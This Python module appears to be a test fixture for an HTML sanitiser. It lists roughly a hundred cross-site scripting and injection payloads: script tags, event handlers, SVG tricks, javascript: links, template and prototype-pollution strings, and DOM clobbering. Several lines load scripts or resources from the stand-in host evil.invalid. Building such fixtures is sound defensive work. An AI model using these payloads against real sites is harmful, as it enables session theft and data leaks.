"""Texts that would do harm on a page that took them for anything but text.

Each one, where it works, sets `window.hacked` or asks something of the host `evil.invalid`.
"""

from __future__ import annotations

from itertools import product

HOST = "evil.invalid"
_DO = "window.hacked=1"
_URL = f"//{HOST}/"

_SCRIPTS = [
    f"<script>{_DO}</script>",
    f"<ScRiPt>{_DO}</sCrIpT>",
    f"<script src={_URL}a.js></script>",
    f'<script type="module">import "{_URL}b.js"</script>',
    f"<scr<script>ipt>{_DO}</scr</script>ipt>",
    f"</script><script>{_DO}</script>",
    f"</textarea><script>{_DO}</script>",
    f"</title><script>{_DO}</script>",
    f"</style><script>{_DO}</script>",
    f"</template><script>{_DO}</script>",
    f"--><script>{_DO}</script>",
    f"]]><script>{_DO}</script>",
    f"<!--<img src='--><img src=x onerror={_DO}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={_DO}>'>",
    f"%3Cscript%3E{_DO}%3C/script%3E",
    f"&lt;script&gt;{_DO}&lt;/script&gt;",
    f"\\u003cscript\\u003e{_DO}\\u003c/script\\u003e",
    f"＜script＞{_DO}＜/script＞",
    f"<script\u2028>{_DO}</script>",
    f"\u202e<script>{_DO}</script>",
    f"<\u200bscript>{_DO}</script>",
]
_TAGS = ("img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "marquee")
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onanimationstart")
_HANDLERS = [f"<{tag} {event}={_DO}>" for tag, event in product(_TAGS, _EVENTS)]
_SVG = [
    f"<svg><script>{_DO}</script></svg>",
    f"<svg><animate onbegin={_DO} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_DO}></svg>#x'/></svg>",
    f"<svg><image href={_URL}c.svg></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{_DO}</script>'></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={_DO}>",
    f"<math href='javascript:{_DO}'>press</math>",
]
_LINKS = [
    f"<a href=javascript:{_DO}>press</a>",
    f"<a href='java\tscript:{_DO}'>press</a>",
    f"<a href='data:text/html,<script>opener.{_DO}</script>'>press</a>",
    f"<a href={_URL}d ping={_URL}e>press</a>",
    f"javascript:{_DO}",
    f"data:text/html,<script>{_DO}</script>",
    f"[press](javascript:{_DO})",
    f"[press](https:{_URL}f)",
    f"![picture](https:{_URL}g.png)",
    f'![a](x"onerror="{_DO})',
    f"[ref]: https:{_URL}h 'title'",
    f"<https:{_URL}i>",
    "[press](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)",
    f"https:{_URL}j",
]
_REQUESTS = [
    f"<img src={_URL}k.png>",
    f"<img srcset='{_URL}l.png 1x'>",
    f"<picture><source srcset={_URL}m.png><img></picture>",
    f"<link rel=stylesheet href={_URL}n.css>",
    f"<link rel=prefetch href={_URL}o>",
    f"<link rel=preconnect href={_URL}>",
    f"<link rel=dns-prefetch href={_URL}>",
    f"<style>@import '{_URL}p.css';</style>",
    f"<style>body{{background:url({_URL}q.png)}}</style>",
    f"<style>@font-face{{font-family:x;src:url({_URL}r)}}*{{font-family:x}}</style>",
    f'<p style="background:url({_URL}s.png)">styled</p>',
    f"<table background={_URL}t.png><tr><td>x</table>",
    f"<meta http-equiv=refresh content='0;url={_URL}u'>",
    f"<base href={_URL}v/>",
    f"<iframe src={_URL}w></iframe>",
    f"<iframe src='javascript:parent.{_DO}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_DO}</script>'></iframe>",
    f"<object data={_URL}x></object>",
    f"<embed src={_URL}y>",
    f"<audio src={_URL}z.mp3 autoplay>",
    f"<video poster={_URL}aa.png>",
    f"<form action={_URL}ab><input name=q><button>Ask</button></form>",
    f"<button formaction='javascript:{_DO}'>Ask</button>",
    f"<portal src={_URL}ac></portal>",
    f"<img src='{_URL}ad?",
]
_BREAKERS = [
    f'" onmouseover="{_DO}" autofocus onfocus="{_DO}',
    f"' onmouseover='{_DO}' autofocus onfocus='{_DO}",
    f"` onmouseover=`{_DO}` x=`",
    f'"><img src=x onerror={_DO}>',
    f"'><img src=x onerror={_DO}>",
    f'x" style="background:url({_URL}ae)" y="',
    f'"}};{_DO};//',
    f"');{_DO};//",
    f"</p></div></article><img src=x onerror={_DO}>",
    "\x00<img src=x onerror=window.hacked=1>",
]
_TEMPLATES = [
    f"${{{_DO}}}",
    f"${{(()=>{{{_DO}}})()}}",
    f"`${{{_DO}}}`",
    f"{{{{constructor.constructor('{_DO}')()}}}}",
    f"{{{{#each value}}}}<img src=x onerror={_DO}>{{{{/each}}}}",
    f"{{@html '<img src=x onerror={_DO}>'}}",
    f"<%= {_DO} %>",
    "{0.__class__.__init__.__globals__}",
    "%(password)s {settings.chat.api_key}",
    f'__i18n__{{"key": "<img src=x onerror={_DO}>"}}',
    '__i18n__{"key": "rooms.ask"}',
    '{"__type__": "update", "value": "<img src=x onerror=window.hacked=1>"}',
    f'{{"path": "x", "url": "https:{_URL}af", "meta": {{"_type": "gradio.FileData"}}}}',
    '{"__proto__": {"hacked": 1}}',
]
_CLOBBERS = [
    "<form id=document><input name=body></form>",
    "<a id=server></a><a id=server name=judge href=x>",
    "<img name=hacked><img id=element name=isConnected>",
    "<form name=gradio_config><input name=root></form>",
    '<button data-document="x" data-cite="1" data-judge="x">Show</button>',
    '<div data-places="[&quot;x&quot;]" class="exchange">',
]

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *_SCRIPTS,
            *_HANDLERS,
            *_SVG,
            *_LINKS,
            *_REQUESTS,
            *_BREAKERS,
            *_TEMPLATES,
            *_CLOBBERS,
        ]
    )
)
